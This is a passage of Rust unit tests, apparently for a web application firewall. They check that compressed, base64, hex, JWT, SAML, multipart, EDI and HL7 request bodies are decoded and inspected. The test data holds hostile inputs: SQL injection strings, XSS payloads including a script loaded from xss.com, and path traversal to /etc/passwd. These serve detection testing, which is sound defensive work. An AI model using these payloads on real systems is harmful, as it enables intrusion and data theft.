        // 64 MiB of zeros compress to about 64 KiB: decoding stops at the bound, says so.
        let bomb = gzip(&vec![0u8; 64 << 20]);
        assert!(bomb.len() < 128 << 10);
        match decode(&["gzip"], &bomb, false, 4096) {
            Decoded::Bytes { body, cut } => {
                assert_eq!(body.len(), 4096);
                assert!(cut);
            }
            other => panic!("{other:?}"),
        }
        // Every stage is bounded: a bomb inside a bomb as well.
        let nested = gzip(&gzip(&vec![0u8; 8 << 20]));
        match decode(&["gzip, gzip"], &nested, false, 4096) {
            Decoded::Bytes { body, cut } => assert!(body.len() <= 4096 && cut),
            other => panic!("{other:?}"),
        }
        let exact = vec![b'a'; 4096];
        assert_eq!(
            decode(&["gzip"], &gzip(&exact), false, 4096),
            decoded(&exact)
        );
    }

    #[test]
    fn a_cut_stream_decodes_as_far_as_it_goes_only_when_the_body_was_cut() {
        let text: Vec<u8> = (0..20_000u32)
            .flat_map(|i| i.to_string().into_bytes())
            .collect();
        let whole = gzip(&text);
        let half = whole.get(..whole.len() / 2).unwrap();
        assert_eq!(
            decode(&["gzip"], half, false, 1 << 20),
            Decoded::Failed(Anomaly::EncodingInvalid)
        );
        match decode(&["gzip"], half, true, 1 << 20) {
            Decoded::Bytes { body, cut } => {
                assert!(!cut);
                assert!(!body.is_empty() && body.len() < text.len());
                assert_eq!(Some(&body[..]), text.get(..body.len()));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn a_compressed_body_is_parsed_decoded() {
        let body = gzip(b"{\"user\":{\"name\":\"alice\"},\"tags\":[\"a\"]}");
        let mut req = crate::request::RequestBuilder::new(Limits::default())
            .method("POST")
            .uri("/submit")
            .version("HTTP/1.1")
            .header("Content-Type", "application/json")
            .header("Content-Encoding", "gzip")
            .build();
        req.set_body(body.clone(), body.len() as u64);
        assert_eq!(req.encoded_len(), Some(body.len()));
        assert!(req.anomalies().is_empty(), "{:?}", req.anomalies());
        let v = values(&req, Part::ArgPost);
        assert!(
            v.contains(&("BODY:json.user.name".into(), "alice".into())),
            "{v:?}"
        );
        assert_eq!(
            req.body(),
            b"{\"user\":{\"name\":\"alice\"},\"tags\":[\"a\"]}"
        );
        // A bomb: the first `max_decoded_body` bytes are inspected, and the anomaly says so.
        let limits = Limits {
            max_decoded_body: 1000,
            ..Limits::default()
        };
        let mut req = crate::request::RequestBuilder::new(limits)
            .method("POST")
            .uri("/submit")
            .version("HTTP/1.1")
            .header("Content-Type", "text/plain")
            .header("Content-Encoding", "gzip")
            .build();
        let bomb = gzip(&vec![b'a'; 1 << 20]);
        req.set_body(bomb.clone(), bomb.len() as u64);
        assert_eq!(req.body().len(), 1000);
        assert_eq!(req.anomalies(), &[Anomaly::EncodingTooLarge]);
        // Not decodable: inspected as received.
        req.set_body(b"not gzip".to_vec(), 8);
        assert_eq!(req.body(), b"not gzip");
        assert_eq!(req.encoded_len(), None);
        assert_eq!(req.anomalies(), &[Anomaly::EncodingInvalid]);
    }

    fn b64(data: &[u8]) -> String {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(data)
    }

    fn deflate_raw(data: &[u8]) -> Vec<u8> {
        use std::io::Write as _;
        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    #[test]
    fn base64_twice_or_compressed_is_unwrapped() {
        use super::base64_arg;
        use std::io::Write as _;
        let text = "region=1 AND 1=(SELECT COUNT(*) FROM pg_shadow)";
        let twice = b64(b64(text.as_bytes()).as_bytes());
        assert_eq!(
            base64_arg(twice.as_bytes(), false).as_deref(),
            Some(text.as_bytes())
        );
        let thrice = b64(twice.as_bytes());
        assert_eq!(
            base64_arg(thrice.as_bytes(), false).as_deref(),
            Some(text.as_bytes())
        );
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        z.write_all(b"{\"title\":\"<script>alert(1)</script>\"}")
            .unwrap();
        let zlib = b64(&z.finish().unwrap());
        assert_eq!(
            base64_arg(zlib.as_bytes(), false).as_deref(),
            Some(&b"{\"title\":\"<script>alert(1)</script>\"}"[..])
        );
        // Base64 of a word that is itself base64-shaped but not of text stays as it is.
        let word = b64(b"HelloWorld2024abc");
        assert_eq!(
            base64_arg(word.as_bytes(), false).as_deref(),
            Some(&b"HelloWorld2024abc"[..])
        );
    }

    #[test]
    fn hex_text_is_an_argument() {
        use super::hex_arg;
        let hex = |t: &str| t.bytes().map(|b| format!("{b:02x}")).collect::<String>();
        for text in [
            "1 OR 1=1 UNION SELECT user()",
            "../../../../etc/passwd",
            "<svg/onload=alert(1)>",
        ] {
            assert_eq!(
                hex_arg(hex(text).as_bytes()).as_deref(),
                Some(text.as_bytes())
            );
            let upper = format!("0x{}", hex(text).to_uppercase());
            assert_eq!(hex_arg(upper.as_bytes()).as_deref(), Some(text.as_bytes()));
        }
        for not in [
            // Hashes, addresses, colours, short text, odd length, a line break.
            "d1649b7d4f3af8c57a2a03f5eddaab53d687d31471d8ab7beb3f92133d2d949c",
            "0x5ecf77cd8c92afd76dc05094cba7e9f60c896f22",
            "bf6351",
            &hex("short text"),
            "616263646566676869706b6c6d6",
            &hex("line one\nline two"),
        ] {
            assert_eq!(hex_arg(not.as_bytes()), None, "{not}");
        }
    }

    #[test]
    fn encoded_word_file_names_are_decoded() {
        use super::encoded_words;
        let got = |v: &str| encoded_words(v).map(|b| String::from_utf8(b).unwrap());
        assert_eq!(
            got("=?utf-8?B?TGViZW5zbGF1Zl9Kw7xyZ2VuX0dyb8OfLnBkZg==?=").as_deref(),
            Some("Lebenslauf_Jürgen_Groß.pdf")
        );
        assert_eq!(
            got("=?utf-8?Q?caf=C3=A9_menu?= =?utf-8?q?.txt?=").as_deref(),
            Some("café menu.txt")
        );
        for not in [
            "report.pdf",
            "=?utf-8?B?YQ==",
            "x =?utf-8?B?YQ==?=",
            "=?utf-8?X?YQ==?=",
        ] {
            assert_eq!(got(not), None, "{not}");
        }
    }

    #[test]
    fn xml_text_and_cdata_run_together() {
        let mut got = Vec::new();
        let doc = b"<a><t>1' UN<![CDATA[ION SEL]]><!-- c --><![CDATA[ECT 1]]></t><u> x </u></a>";
        super::walk_xml(doc, 8, &mut |p, _, v| {
            got.push((p.to_string(), String::from_utf8_lossy(v).into_owned()));
            true
        });
        assert_eq!(
            got,
            [
                ("a.t".to_string(), "1' UNION SELECT 1".to_string()),
                ("a.u".to_string(), "x".to_string())
            ]
        );
    }

    #[test]
    fn basic_credentials_give_their_user_name() {
        let user = |v: &str| crate::body::basic_user(v.as_bytes());
        // `admin'--:p:q:r` and `:nouser`: split at the first colon.
        assert_eq!(
            user("Basic YWRtaW4nLS06cDpxOnI="),
            Some("admin'--".to_string())
        );
        assert_eq!(
            user("basic   YWRtaW4nLS06cDpxOnI=  "),
            Some("admin'--".to_string())
        );
        assert_eq!(user("Basic Om5vdXNlcg=="), None);
        assert_eq!(user("Bearer YWRtaW46eA=="), None);
        assert_eq!(user("Basic !!!"), None);
        // Base64 of text without a colon, or of bytes that are not UTF-8.
        assert_eq!(user("Basic YWRtaW4="), None);
        assert_eq!(user("Basic //79"), None);
    }

    #[test]
    fn json_web_tokens_give_their_claims() {
        use super::{bearer_token, jwt_dots, jwt_leaves};
        // A value's documents, found as `jwt_leaves` finds them.
        let jwt_documents = |v: &[u8]| {
            let v = v.trim_ascii();
            jwt_dots(v).map_or_else(Vec::new, |dots| super::jwt_documents(v, dots))
        };
        use base64::Engine as _;
        let seg = |s: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s);
        let header = seg(r#"{"alg":"HS256","kid":"k1","tenant":"acme"}"#);
        let claims = seg(r#"{"iss":"https://a.example","sub":"7","name":"Zoë","roles":["x"]}"#);
        let token = format!("{header}.{claims}.c2ln");
        let decoded = jwt_leaves(token.as_bytes(), "t", 8).unwrap();
        let leaves: Vec<(String, String)> = decoded
            .iter()
            .map(|(n, _, v)| (n.clone(), String::from_utf8(v.clone()).unwrap()))
            .collect();
        // Remembered: the same token under the same name is not decoded again; under
        // another name it is named for it.
        assert!(std::rc::Rc::ptr_eq(
            &decoded,
            &jwt_leaves(token.as_bytes(), "t", 8).unwrap()
        ));
        let other = jwt_leaves(token.as_bytes(), "u", 8).unwrap();
        assert_eq!(other.len(), decoded.len());
        assert!(
            other.iter().all(|(n, _, _)| n.starts_with("u.jwt.")),
            "{other:?}"
        );
        let want = [
            ("t.jwt.header.tenant", "acme"),
            ("t.jwt.payload.sub", "7"),
            ("t.jwt.payload.name", "Zoë"),
            ("t.jwt.payload.roles[0]", "x"),
        ];
        for (n, v) in want {
            assert!(
                leaves.contains(&(n.to_string(), v.to_string())),
                "{n}: {leaves:?}"
            );
        }
        // Registered claims and the key lookup are not judged as text.
        assert!(
            !leaves
                .iter()
                .any(|(n, _)| [".iss", ".kid", ".alg"].iter().any(|r| n.ends_with(r))),
            "{leaves:?}"
        );
        // Unsigned (`alg: none`, empty signature) and padded segments read alike.
        let unsigned = format!("{}=.{claims}.", seg(r#"{"alg":"none"}"#));
        assert_eq!(jwt_documents(unsigned.as_bytes()).len(), 2);
        // An encrypted token (five segments): its header only.
        let jwe = format!("{header}.a2V5.aXY.{claims}.dGFn");
        let docs = jwt_documents(jwe.as_bytes());
        assert_eq!(docs.len(), 1);
        assert_eq!(docs[0].0, "jwt.header");
        // Not tokens: a dotted version, an opaque token, a header that is not JSON, a
        // payload that is not an object (a nested token), text around the token.
        let not_object = format!("{header}.{}.c2ln", seg("[1,2]"));
        assert_eq!(jwt_documents(not_object.as_bytes()).len(), 1);
        for v in [
            "1.2.3".to_string(),
            "gho_16C7e42F292c6912E7710c838347Ae178B4a".into(),
            format!("{}.{claims}.c2ln", seg("alg")),
            format!("x {token}"),
            format!("{token}.x"),
        ] {
            assert!(jwt_documents(v.as_bytes()).is_empty(), "{v}");
        }
        assert_eq!(
            bearer_token(format!("  bearer {token} ").as_bytes()),
            Some(token.as_bytes())
        );
        assert_eq!(bearer_token(b"Basic YTpi"), None);
    }

    #[test]
    fn short_base64_text_is_an_argument() {
        use super::base64_arg;
        let unpadded = |t: &[u8]| b64(t).trim_end_matches('=').to_string();
        for text in [
            &b"(alert)(1)"[..],
            b"' or 123.22=123.22",
            b"<<scr\0ipt/src=http://xss.com/xss.js>",
        ] {
            assert_eq!(
                base64_arg(unpadded(text).as_bytes(), false).as_deref(),
                Some(text)
            );
        }
        // Several lines: a document. A random identifier that decodes to short text with a
        // NUL, and prose, are not base64 text.
        assert_eq!(
            base64_arg(unpadded(b"#!/bin/sh\nid\n").as_bytes(), false),
            None
        );
        assert_eq!(base64_arg(b"AMuX6oykza1Y", false), None);
        assert_eq!(base64_arg(b"the order shipping address", true), None);
    }

    #[test]
    fn text_documents_carried_in_arguments_are_files() {
        let readme = "# Widgets\n\nRun `make install`, then open http://localhost:8080/.\n";
        let enc = b64(readme.as_bytes());
        assert_eq!(
            embedded_text(enc.as_bytes(), false).as_deref(),
            Some(readme.as_bytes())
        );
        // Line-wrapped (e-mail attachments), or with `+` made spaces by a form decoder.
        let wrapped = format!("{}\r\n{}", &enc[..40], &enc[40..]);
        assert_eq!(
            embedded_text(wrapped.as_bytes(), false).as_deref(),
            Some(readme.as_bytes())
        );
        let long = b64("a?>b?>c?>d?>e?>f?>g?>h?>".repeat(3).as_bytes());
        assert!(long.contains('+'));
        let spaced = long.replace('+', " ");
        assert!(embedded_text(spaced.as_bytes(), true).is_some());
        assert_eq!(embedded_text(spaced.as_bytes(), false), None);
        // Not text: hashes, tokens, binary, short values, prose.
        for v in [
            "b88936125a8cd8579ec933dd34106cad8cc151d2",
            "4fee3b046395c4e751011e97f8900b5273d56685aa",
            &b64(&[
                0u8, 1, 2, 200, 255, 7, 9, 3, 0, 1, 2, 200, 255, 7, 9, 3, 0, 1, 2, 200, 255, 7, 9,
                3,
            ]),
            &b64(b"short text"),
            "the quick brown fox jumps over the lazy dog again",
        ] {
            assert_eq!(embedded_text(v.as_bytes(), true), None, "{v}");
        }
        // In a JSON string and a form field: a file's content, named after the value.
        let req = post(
            "application/json",
            &format!("{{\"message\":\"docs\",\"content\":\"{enc}\"}}"),
        );
        assert_eq!(
            values(&req, Part::FileContent),
            [(
                "FILES_CONTENT:content.base64".to_string(),
                readme.to_string()
            )]
        );
        let req = post(
            "application/x-www-form-urlencoded",
            &format!(
                "file={}",
                enc.replace('+', "%2B")
                    .replace('/', "%2F")
                    .replace('=', "%3D")
            ),
        );
        assert_eq!(
            values(&req, Part::FileContent),
            [("FILES_CONTENT:file.base64".to_string(), readme.to_string())]
        );
    }

    #[test]
    fn xml_documents_carried_in_arguments_are_read() {
        const DOC: &str = "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_1\"><saml:NameID xmlns:saml=\"urn:x\">ann@example.org</saml:NameID></samlp:Response>";
        let post_b64 = b64(DOC.as_bytes());
        // Base64 (with line breaks every 76 characters, `+` turned to spaces by a lax form
        // decoder) under any name; raw DEFLATE only under the SAML bindings' names.
        let wrapped: Vec<u8> = post_b64
            .as_bytes()
            .chunks(76)
            .collect::<Vec<_>>()
            .join(&b"\r\n"[..]);
        assert_eq!(
            embedded_xml(b"doc", &wrapped).as_deref(),
            Some(DOC.as_bytes())
        );
        let spaced = post_b64.replace('+', " ");
        assert_eq!(
            embedded_xml(b"doc", spaced.as_bytes()).as_deref(),
            Some(DOC.as_bytes())
        );
        let redirect = b64(&deflate_raw(DOC.as_bytes()));
        assert_eq!(
            embedded_xml(b"SAMLRequest", redirect.as_bytes()).as_deref(),
            Some(DOC.as_bytes())
        );
        assert_eq!(embedded_xml(b"state", redirect.as_bytes()), None);
        // Base64 of anything else, short values, other text: nothing.
        assert_eq!(
            embedded_xml(
                b"SAMLResponse",
                b64(b"{\"not\": \"xml at all, just json\"}").as_bytes()
            ),
            None
        );
        assert_eq!(embedded_xml(b"SAMLResponse", b"PD94bWw="), None);
        assert_eq!(
            embedded_xml(b"q", b"Please call me back tomorrow afternoon"),
            None
        );
        assert_eq!(
            embedded_xml(b"SAMLResponse", b"not base64 at all, this one!"),
            None
        );
        // A deflate bomb is cut at the bound and then refused whole (no end tag needed, but
        // nothing past the bound is kept).
        let bomb = format!("<a>{}</a>", "x".repeat(4 * MAX_EMBEDDED_XML));
        let doc = embedded_xml(
            b"SAMLRequest",
            b64(&deflate_raw(bomb.as_bytes())).as_bytes(),
        )
        .unwrap();
        assert_eq!(doc.len(), MAX_EMBEDDED_XML);

        // In a form: the document whole as a file's content, its values as arguments.
        let req = post(
            "application/x-www-form-urlencoded",
            &format!(
                "SAMLResponse={}&RelayState=%2Fapp",
                post_b64.replace('+', "%2B").replace('=', "%3D")
            ),
        );
        let files = values(&req, Part::FileContent);
        assert_eq!(
            files,
            [("FILES_CONTENT:SAMLResponse".to_string(), DOC.to_string())]
        );
        let args = values(&req, Part::ArgPost);
        assert!(
            args.contains(&(
                "BODY:form.SAMLResponse.samlp:Response.saml:NameID".to_string(),
                "ann@example.org".to_string()
            )),
            "{args:?}"
        );
        assert!(args.contains(&(
            "BODY:form.SAMLResponse.samlp:Response@ID".to_string(),
            "_1".to_string()
        )));

        // In the query (the HTTP-Redirect binding): the same, as query arguments.
        let uri = format!(
            "/sso?SAMLRequest={}&RelayState=x",
            redirect
                .replace('+', "%2B")
                .replace('/', "%2F")
                .replace('=', "%3D")
        );
        let req = crate::request::RequestBuilder::new(Limits::default())
            .method("GET")
            .uri(&uri)
            .version("HTTP/1.1")
            .build();
        let head: Vec<(String, String)> = req
            .head_items()
            .iter()
            .map(|i| {
                (
                    req.label(i),
                    String::from_utf8_lossy(req.value(i)).into_owned(),
                )
            })
            .collect();
        assert!(
            head.contains(&("FILES_CONTENT:SAMLRequest".to_string(), DOC.to_string())),
            "{head:?}"
        );
        assert!(head.contains(&(
            "ARGS:SAMLRequest.samlp:Response.saml:NameID".to_string(),
            "ann@example.org".to_string()
        )));
        assert!(head.contains(&(
            "ARGS_NAMES:SAMLRequest.samlp:Response@ID".to_string(),
            "ID".to_string()
        )));
    }

    /// X12 and HL7 v2 bodies give their segments' fields as arguments, split with the
    /// separators their first segment declares; other text gives none.
    #[test]
    fn edi_and_hl7_messages_give_their_fields() {
        let x12 = "ISA*00*          *00*          *ZZ*SUBMITTER11    *ZZ*PAYER          *240611*1253*^*00501*405914822*0*P*:~GS*HC*SUB*PAYER*20240611*1253*1*X*005010X222A1~NM1*IL*1*DOE' OR '1'='1' --*D'ARCY~N3*PO BOX 1234~";
        let req = post("application/EDI-X12", x12);
        let args = values(&req, Part::ArgPost);
        assert!(
            args.iter()
                .any(|(n, v)| n.ends_with("NM1.3") && v == "DOE' OR '1'='1' --"),
            "{args:?}"
        );
        assert!(args
            .iter()
            .any(|(n, v)| n.ends_with("N3.1") && v == "PO BOX 1234"));
        let hl7 = "MSH|^~\\&|LAB|HOSP|EHR|HOSP|202406111253||ORU^R01|1|P|2.5\rPID|1||12345^^^HOSP||O'NEIL^SEAN||19710704|M\rOBX|1|TX|NOTE||<script>alert(1)</script>||||||F\r";
        let req = post("x-application/hl7-v2+er7; charset=utf-8", hl7);
        let args = values(&req, Part::ArgPost);
        assert!(
            args.iter()
                .any(|(n, v)| n.ends_with("PID.5") && v == "O'NEIL^SEAN"),
            "{args:?}"
        );
        assert!(args
            .iter()
            .any(|(n, v)| n.ends_with("OBX.5") && v.contains("<script>")));
        // Not an interchange: nothing is split.
        assert!(super::segment_fields(b"ISA short").is_empty());
        assert!(super::segment_fields(b"MSHxyz").is_empty());
        assert!(super::segment_fields(b"hello|world").is_empty());
    }

    /// Outside a form, multipart parts need no `Content-Disposition`: a batch's or a DICOMweb
    /// upload's parts are documents; binary ones are inspected as files.
    #[test]
    fn related_and_mixed_parts_need_no_disposition() {
        let body = "--b\r\nContent-Type: application/dicom+json\r\n\r\n[{\"00100010\":{\"vr\":\"PN\",\"Value\":[{\"Alphabetic\":\"Doe^Jane\"}]}}]\r\n--b\r\nContent-Type: application/dicom\r\n\r\nDICM\u{0}\u{1}\u{2}\u{3}\r\n--b--\r\n";
        let req = post(
            "multipart/related; type=\"application/dicom+json\"; boundary=b",
            body,
        );
        assert!(req.anomalies().is_empty(), "{:?}", req.anomalies());
        assert!(values(&req, Part::ArgPost)
            .iter()
            .any(|(_, v)| v.contains("Doe^Jane")));
        assert_eq!(
            values(&req, Part::FileContent).len(),
            1,
            "the DICOM instance"
        );
        let batch = "--bb\r\nContent-Type: application/http\r\n\r\nGET /Customers('ALFKI') HTTP/1.1\r\nAccept: application/json\r\n\r\n\r\n--bb--\r\n";
        let req = post("multipart/mixed; boundary=bb", batch);
        assert!(req.anomalies().is_empty(), "{:?}", req.anomalies());
        assert!(values(&req, Part::FileContent)
            .iter()
            .any(|(_, v)| v.contains("/Customers")));
        // A form's parts still need one.
        let req = post("multipart/form-data; boundary=bb", batch);
        assert!(req.anomalies().contains(&Anomaly::MultipartBadPartHeader));
    }

    /// A batch's changeset is read part by part, and each embedded request's target, query
    /// arguments, headers and body are arguments.
    #[test]
    fn batch_requests_are_read_through_their_changesets() {
        let batch = "--batch_1\r\nContent-Type: multipart/mixed; boundary=Changeset_A\r\n\r\n\
            --Changeset_A\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n\
            PATCH NotificationSet('1''%20OR%201=1--') HTTP/1.1\r\nContent-Type: application/json\r\nX-Tag: t1\r\n\r\n\
            {\"note\":\"hello\"}\r\n--Changeset_A--\r\n\r\n\
            --batch_1\r\nContent-Type: application/http\r\n\r\n\
            GET Orders?$filter=Price%20gt%205&$top=2&$orderby=Name+desc HTTP/1.1\r\nAccept: application/json\r\n\r\n\r\n--batch_1--\r\n";
        let req = post("multipart/mixed; boundary=batch_1", batch);
        assert!(req.anomalies().is_empty(), "{:?}", req.anomalies());
        let args = values(&req, Part::ArgPost);
        for (label, value) in [
            (
                "BODY:multipart.http.path",
                "NotificationSet('1'' OR 1=1--')",
            ),
            ("BODY:multipart.http.header.X-Tag", "t1"),
            ("BODY:multipart.http.body.note", "hello"),
            (
                "BODY:multipart.http.url",
                "Orders?$filter=Price%20gt%205&$top=2&$orderby=Name+desc",
            ),
            ("BODY:multipart.http.query.$filter", "Price gt 5"),
            ("BODY:multipart.http.query.$top", "2"),
            // (`+` is a space, as in the request's own query.)
            ("BODY:multipart.http.query.$orderby", "Name desc"),
        ] {
            assert!(
                args.contains(&(label.to_string(), value.to_string())),
                "{label}: {args:?}"
            );
        }
        // The changeset's part headers are MIME, not a value with header lines in it.
        assert!(
            !args.iter().any(|(_, v)| v.contains("Content-Type:")),
            "{args:?}"
        );
        // Each request is still a document too.
        assert_eq!(values(&req, Part::FileContent).len(), 2);
        // A part that says it is multipart but is not stays one value.
        let odd =
            "--b\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\nplain text\r\n--b--\r\n";
        let req = post("multipart/mixed; boundary=b", odd);
        assert!(req.anomalies().is_empty(), "{:?}", req.anomalies());
        assert_eq!(
            values(&req, Part::ArgPost),
            [("BODY:multipart.".to_string(), "plain text".to_string())]
        );
    }

    /// MIME entities of mail and EDI transports (AS2's `multipart/signed` and
    /// `multipart/report`) are read part by part, with their transfer encodings undone; so are
    /// a form's parts, whose header is judged as well (multipart-101 at PL2) and whose
    /// quoted-printable text is judged as sent too.
    #[test]
    fn mime_parts_are_judged_decoded() {
        let signed = "--sig\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n\
            UE8qNDUwMCpTVDwvc2NyaXB0Pg==\r\n--sig\r\nContent-Type: text/plain; charset=utf-8\r\n\
            Content-Transfer-Encoding: quoted-printable\r\n\r\nna=C3=AFve soft=\r\nbreak =3D ok\r\n\
            --sig\r\nContent-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n\
            MIAGCSqGSIb3\r\nDQEHAqCAMIAC\r\n--sig--\r\n";
        let req = post(
            "multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=sig",
            signed,
        );
        assert!(req.anomalies().is_empty(), "{:?}", req.anomalies());
        let args = values(&req, Part::ArgPost);
        assert!(
            args.iter().any(|(_, v)| v == "PO*4500*ST</script>"),
            "{args:?}"
        );
        assert!(
            args.iter().any(|(_, v)| v == "naïve softbreak = ok"),
            "{args:?}"
        );
        let headers = values(&req, Part::PartHeader);
        assert!(
            !headers.iter().any(|(l, _)| l.contains("Transfer-Encoding")),
            "{headers:?}"
        );
        // The signature's bytes are binary: a document, not an argument.
        assert_eq!(values(&req, Part::FileContent).len(), 1);
        // Not base64 after all: judged as sent, header and all.
        let bad = "--b\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n<script>!\r\n--b--\r\n";
        let req = post("multipart/mixed; boundary=b", bad);
        assert!(values(&req, Part::ArgPost)
            .iter()
            .any(|(_, v)| v == "<script>!"));
        assert!(values(&req, Part::PartHeader)
            .iter()
            .any(|(_, v)| v == "base64; not valid"));
        let form = "--b\r\nContent-Disposition: form-data; name=q\r\nContent-Transfer-Encoding: base64\r\n\r\nJyBvciAxPTEtLQ==\r\n--b--\r\n";
        let req = post("multipart/form-data; boundary=b", form);
        let args = values(&req, Part::ArgPost);
        assert!(
            args.contains(&("BODY:multipart.q".to_string(), "' or 1=1--".to_string())),
            "{args:?}"
        );
        assert!(
            !args.iter().any(|(_, v)| v == "JyBvciAxPTEtLQ=="),
            "{args:?}"
        );
        assert!(values(&req, Part::PartHeader)
            .iter()
            .any(|(_, v)| v == "base64"));
        // Quoted-printable in a form: decoded, and as sent where decoding changed it.
        let form = "--b\r\nContent-Disposition: form-data; name=c\r\n\
            Content-Transfer-Encoding: quoted-printable\r\n\r\n<img src=3Dx onerror=ab(1)>\r\n\
            --b\r\nContent-Disposition: form-data; name=f; filename=a.txt\r\n\
            Content-Transfer-Encoding: quoted-printable\r\n\r\nplain text\r\n--b--\r\n";
        let req = post("multipart/form-data; boundary=b", form);
        let args = values(&req, Part::ArgPost);
        assert!(
            args.contains(&(
                "BODY:multipart.c".to_string(),
                "<img src=x onerror\u{fffd}(1)>".to_string()
            )),
            "{args:?}"
        );
        assert!(
            args.contains(&(
                "BODY:multipart.c".to_string(),
                "<img src=3Dx onerror=ab(1)>".to_string()
            )),
            "{args:?}"
        );
        // (Unchanged by decoding: judged once.)
        assert_eq!(values(&req, Part::FileContent).len(), 1);
        // Not base64 in a form either: judged as sent, and marked.
        let form = "--b\r\nContent-Disposition: form-data; name=q\r\nContent-Transfer-Encoding: base64\r\n\r\n../../etc/passwd\r\n--b--\r\n";
        let req = post("multipart/form-data; boundary=b", form);
        assert!(values(&req, Part::ArgPost)
            .iter()
            .any(|(_, v)| v == "../../etc/passwd"));
        assert!(values(&req, Part::PartHeader)
            .iter()
            .any(|(_, v)| v == "base64; not valid"));
    }

    fn values(req: &InspectedRequest, part: Part) -> Vec<(String, String)> {
        req.body_items()
            .iter()
            .filter(|i: &&Item| i.part == part)
            .map(|i| {
                (
                    req.label(i),
                    String::from_utf8_lossy(req.value(i)).into_owned(),
                )
            })
            .collect()
    }

    #[test]
    fn form() {
        let req = post(
            "application/x-www-form-urlencoded; charset=utf-8",
            "user=bob&q=1%27+or",
        );
        assert_eq!(
            values(&req, Part::ArgPost),
            [
                ("BODY:form.user".into(), "bob".into()),
                ("BODY:form.q".into(), "1' or".into())
            ]
        );
        // Every byte is in an argument: the body whole is only for rules that miss some.
        assert_eq!(values(&req, Part::ParsedBody).len(), 1);
        assert!(values(&req, Part::Body).is_empty());
    }

    #[test]
    fn json_nested_keys_and_values() {
        let req = post(
            "application/json",
            r#"{"user":{"name":"x' or 1=1","tags":["a","<b>"]},"n":3,"$where":"sleep(1)"}"#,
        );
        let vals = values(&req, Part::ArgPost);
        assert!(vals.contains(&("BODY:json.user.name".into(), "x' or 1=1".into())));
        assert!(vals.contains(&("BODY:json.user.tags[1]".into(), "<b>".into())));
        assert!(vals.contains(&("BODY:json.n".into(), "3".into())));
        let names = values(&req, Part::ArgPostName);
        assert!(names.iter().any(|(_, v)| v == "$where"));
        assert!(names.iter().any(|(_, v)| v == "user"));
    }

    #[test]
    fn form_fields_holding_json_give_their_values_too() {
        let req = post(
            "application/x-www-form-urlencoded",
            "settings=%7B%22include%22%3A%22http%3A%2F%2Fx%2Fh.inc%3F%22%7D&note=%5Bok%5D",
        );
        let vals = values(&req, Part::ArgPost);
        assert!(
            vals.contains(&(
                "BODY:form.settings.include".into(),
                "http://x/h.inc?".into()
            )),
            "{vals:?}"
        );
        assert!(vals.contains(&("BODY:form.note".into(), "[ok]".into())));
        assert_eq!(vals.len(), 3);
    }

    #[test]
    fn xml_sent_as_a_form_is_read_as_xml_when_well_formed() {
        let req = post(
            "application/x-www-form-urlencoded",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<config-auth client=\"vpn\" type=\"init\"><group-access>https://vpn.example.com/a?b=1&amp;c=2</group-access></config-auth>",
        );
        let names = values(&req, Part::ArgPostName);
        assert!(!names.iter().any(|(_, v)| v.contains("<?xml")), "{names:?}");
        let vals = values(&req, Part::ArgPost);
        assert!(
            vals.contains(&(
                "BODY:xml.config-auth.group-access".into(),
                "https://vpn.example.com/a?b=1&c=2".into()
            )),
            "{vals:?}"
        );
        // Not well-formed: a form, as before (`<x>` is a name, `1' or '1'='1` a value).
        let req = post(
            "application/x-www-form-urlencoded",
            "<x>=1%27+or+%271%27%3D%271&y=2",
        );
        let vals = values(&req, Part::ArgPost);
        assert!(
            vals.contains(&("BODY:form.<x>".into(), "1' or '1'='1".into())),
            "{vals:?}"
        );
    }

    #[test]
    fn json_sent_with_an_xml_type_is_read_as_json() {
        let req = post(
            "application/soap+xml; charset=utf-8",
            r#"{"Body":{"SendMsgRequest":{"m":{"su":{"_content":"Where did the <table> go?"}}}}}"#,
        );
        let vals = values(&req, Part::ArgPost);
        assert!(
            vals.contains(&(
                "BODY:json.Body.SendMsgRequest.m.su._content".into(),
                "Where did the <table> go?".into()
            )),
            "{vals:?}"
        );
        // Not JSON: XML as before.
        let req = post("application/xml", "<a>{x}</a>");
        let vals = values(&req, Part::ArgPost);
        assert!(
            vals.contains(&("BODY:xml.a".into(), "{x}".into())),
            "{vals:?}"
        );
    }

    #[test]
    fn container_keys_count_against_the_argument_limit() {
        let doc = format!(
            "{{{}}}",
            (0..300)
                .map(|i| format!("\"k{i}\":{{}}"))
                .collect::<Vec<_>>()
                .join(",")
        );
        let limits = Limits {
            max_args: 32,
            ..Limits::default()
        };
        for (ct, body) in [
            ("application/json", doc.clone()),
            (
                "application/x-www-form-urlencoded",
                format!(
                    "f={}",
                    doc.replace('{', "%7B")
                        .replace('}', "%7D")
                        .replace('"', "%22")
                ),
            ),
        ] {
            let req = post_with(limits.clone(), ct, &body);
            assert!(
                req.body_items().len() <= 32 + 2,
                "{ct}: {} items",
                req.body_items().len()
            );
            assert!(req.anomalies().contains(&Anomaly::TooManyArgs), "{ct}");
        }
    }

    #[test]
    fn multipart_part_headers_and_files_count_against_the_argument_limit() {
        let limits = Limits {
            max_args: 32,
            ..Limits::default()
        };
        let many_headers = format!(
            "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n{}\r\nv\r\n--XyZ--\r\n",
            (0..100)
                .map(|i| format!("X-H{i}: 1\r\n"))
                .collect::<String>()
        );
        let many_files = format!(
            "{}--XyZ--\r\n",
            (0..100)
                .map(|i| format!("--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{i}.txt\"\r\n\r\nx\r\n"))
                .collect::<String>()
        );
        for body in [many_headers, many_files] {
            let req = post_with(limits.clone(), "multipart/form-data; boundary=XyZ", &body);
            assert!(
                req.body_items().len() <= 2 * 32 + 2,
